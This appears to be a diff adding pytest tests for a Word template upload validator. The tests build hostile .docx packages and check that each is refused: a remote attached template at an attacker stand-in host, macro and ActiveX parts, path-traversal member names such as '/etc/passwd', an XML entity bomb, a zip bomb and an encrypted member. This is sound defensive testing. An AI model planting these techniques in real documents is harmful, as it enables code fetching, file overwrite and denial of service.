@@ -1,0 +1,229 @@
+"""An uploaded Word template is kept only if it is a plain, self-contained .docx package."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from pathlib import Path
+
+import docx
+import pytest
+
+from procure.admin.template_check import (
+    MAX_TEMPLATE_BYTES,
+    Reason,
+    TemplateRejected,
+    check_template_file,
+)
+
+ROOT = Path(__file__).parents[2]
+MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
+
+
+def word_file() -> bytes:
+    document = docx.Document()
+    document.add_paragraph("Cahier des clauses administratives particulières")
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+def rebuilt(
+    data: bytes,
+    *,
+    replace: dict[str, bytes] | None = None,
+    add: dict[str, bytes] | None = None,
+    drop: tuple[str, ...] = (),
+) -> bytes:
+    """``data``'s package with parts replaced, added or dropped."""
+    replace = replace or {}
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
+        for info in source.infolist():
+            if info.filename in drop:
+                continue
+            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
+        for name, content in (add or {}).items():
+            target.writestr(name, content)
+    return out.getvalue()
+
+
+def part(data: bytes, name: str) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        return archive.read(name)
+
+
+def rejection(data: bytes) -> TemplateRejected:
+    with pytest.raises(TemplateRejected) as caught:
+        check_template_file(data)
+    return caught.value
+
+
+def test_a_document_saved_by_python_docx_is_accepted():
+    check_template_file(word_file())
+
+
+def test_procures_own_default_template_is_accepted():
+    check_template_file((ROOT / "templates" / "default.docx").read_bytes())
+
+
+def test_a_dotx_template_content_type_is_accepted():
+    data = word_file()
+    types = part(data, "[Content_Types].xml").replace(
+        MAIN_TYPE.encode(), MAIN_TYPE.replace("document.main", "template.main").encode()
+    )
+    check_template_file(rebuilt(data, replace={"[Content_Types].xml": types}))
+
+
+def test_an_empty_file_is_refused():
+    assert rejection(b"").reason is Reason.EMPTY
+
+
+def test_a_file_over_two_megabytes_is_refused_before_unpacking():
+    error = rejection(b"PK" + b"\0" * MAX_TEMPLATE_BYTES)
+    assert error.reason is Reason.TOO_LARGE
+
+
+@pytest.mark.parametrize(
+    "data",
+    [b"%PDF-1.7 not a zip", b"PK\x03\x04 truncated", b"Texte brut", b"\xd0\xcf\x11\xe0"],
+)
+def test_a_file_that_is_not_a_zip_package_is_refused(data):
+    assert rejection(data).reason is Reason.NOT_ZIP
+
+
+@pytest.mark.parametrize("missing", ["[Content_Types].xml", "word/document.xml", "word/styles.xml"])
+def test_each_required_part_is_named_when_missing(missing):
+    error = rejection(rebuilt(word_file(), drop=(missing,)))
+    assert (error.reason, error.detail) == (Reason.MISSING_PART, missing)
+
+
+def test_a_spreadsheet_is_not_a_word_document():
+    data = word_file()
+    types = part(data, "[Content_Types].xml").replace(
+        MAIN_TYPE.encode(),
+        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+    )
+    error = rejection(rebuilt(data, replace={"[Content_Types].xml": types}))
+    assert error.reason is Reason.NOT_WORD
+    assert "spreadsheetml" in error.detail
+
+
+def test_a_macro_enabled_document_is_refused():
+    data = word_file()
+    types = part(data, "[Content_Types].xml").replace(MAIN_TYPE.encode(), MACRO_TYPE.encode())
+    error = rejection(rebuilt(data, replace={"[Content_Types].xml": types}))
+    assert (error.reason, error.detail) == (Reason.MACROS, "/word/document.xml")
+
+
+def test_a_vba_project_part_is_refused_even_without_its_content_type():
+    error = rejection(rebuilt(word_file(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
+    assert (error.reason, error.detail) == (Reason.MACROS, "word/vbaProject.bin")
+
+
+def test_an_activex_control_is_refused():
+    error = rejection(rebuilt(word_file(), add={"word/activeX/activeX1.xml": b"<ax/>"}))
+    assert error.reason is Reason.MACROS
+
+
+def test_a_vba_content_type_default_is_refused():
+    data = word_file()
+    types = part(data, "[Content_Types].xml").replace(
+        b"</Types>",
+        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
+    )
+    error = rejection(rebuilt(data, replace={"[Content_Types].xml": types}))
+    assert (error.reason, error.detail) == (Reason.MACROS, "bin")
+
+
+def test_an_external_attached_template_is_refused_naming_part_and_target():
+    data = word_file()
+    settings_rels = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
+        b'TargetMode="External"/></Relationships>'
+    )
+    error = rejection(rebuilt(data, add={"word/_rels/settings.xml.rels": settings_rels}))
+    assert error.reason is Reason.EXTERNAL_RELATIONSHIP
+    assert error.detail == (
+        "word/_rels/settings.xml.rels: attachedTemplate → https://attacker.example/t.dotm"
+    )
+
+
+def test_an_external_hyperlink_in_the_document_is_refused():
+    data = word_file()
+    rels = part(data, "word/_rels/document.xml.rels").replace(
+        b"</Relationships>",
+        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/hyperlink" Target="http://example.org/" TargetMode="External"/>'
+        b"</Relationships>",
+    )
+    error = rejection(rebuilt(data, replace={"word/_rels/document.xml.rels": rels}))
+    assert error.reason is Reason.EXTERNAL_RELATIONSHIP
+    assert "hyperlink → http://example.org/" in error.detail
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../evil.xml",
+        "word/../../evil.xml",
+        "/etc/passwd",
+        "C:/Windows/evil.xml",
+        "word\\..\\evil.xml",
+        "word/./document2.xml",
+    ],
+)
+def test_member_names_that_leave_the_package_are_refused(name):
+    error = rejection(rebuilt(word_file(), add={name: b"<x/>"}))
+    assert (error.reason, error.detail) == (Reason.UNSAFE_NAME, name)
+
+
+def test_a_duplicate_member_name_is_refused():
+    data = word_file()
+    out = io.BytesIO(data)
+    with zipfile.ZipFile(out, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
+        archive.writestr("word/document.xml", b"<w:document/>")
+    assert rejection(out.getvalue()).reason is Reason.UNSAFE_NAME
+
+
+def test_a_doctype_in_an_xml_part_is_refused():
+    data = word_file()
+    bomb = (
+        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol">'
+        b'<!ENTITY lol2 "&lol;&lol;&lol;">]><w:styles>&lol2;</w:styles>'
+    )
+    error = rejection(rebuilt(data, replace={"word/styles.xml": bomb}))
+    assert (error.reason, error.detail) == (Reason.BAD_XML, "word/styles.xml")
+
+
+def test_broken_xml_is_refused_naming_the_part():
+    error = rejection(rebuilt(word_file(), replace={"word/document.xml": b"<w:document"}))
+    assert (error.reason, error.detail) == (Reason.BAD_XML, "word/document.xml")
+
+
+def test_a_zip_bomb_is_refused_without_unpacking_it():
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(word_file())) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for info in source.infolist():
+            target.writestr(info.filename, source.read(info))
+        target.writestr("word/media/huge.bin", b"\0" * (60 * 1024 * 1024))
+    data = out.getvalue()
+    assert len(data) < MAX_TEMPLATE_BYTES
+    assert rejection(data).reason is Reason.TOO_BIG_UNPACKED
+
+
+def test_an_encrypted_member_is_refused():
+    data = bytearray(rebuilt(word_file(), add={"word/secret.xml": b"<x/>"}))
+    name = b"word/secret.xml"
+    local_header = bytes(data).index(b"PK\x03\x04", bytes(data).index(name) - 30)
+    central_header = bytes(data).rindex(b"PK\x01\x02", 0, bytes(data).rindex(name))
+    data[local_header + 6] |= 0x1  # general purpose flag bit 0: encrypted
+    data[central_header + 8] |= 0x1
+    assert rejection(bytes(data)).reason is Reason.ENCRYPTED
